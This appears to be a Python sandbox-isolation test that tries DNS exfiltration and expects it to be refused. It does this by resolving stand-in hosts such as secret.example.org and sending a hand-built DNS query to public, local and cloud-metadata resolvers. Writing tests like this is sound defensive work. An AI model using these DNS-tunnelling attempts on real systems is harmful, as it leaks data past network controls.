# tries: carry data out in the names that it asks for
# outcome: succeeded
from hostile import *
import socket
for name in "secret.example.org", "example.com", "x" * 60 + ".example.net":
    refused(name, socket.getaddrinfo, name, 80)
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03org\x00\x00\x01\x00\x01"
for server in ["8.8.8.8", "1.1.1.1", "127.0.0.53", "169.254.169.253"] + addresses:
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    def ask():
        s.sendto(q, (server, 53))
        return s.recv(512)
    refused("dns of " + server, ask)
contained()
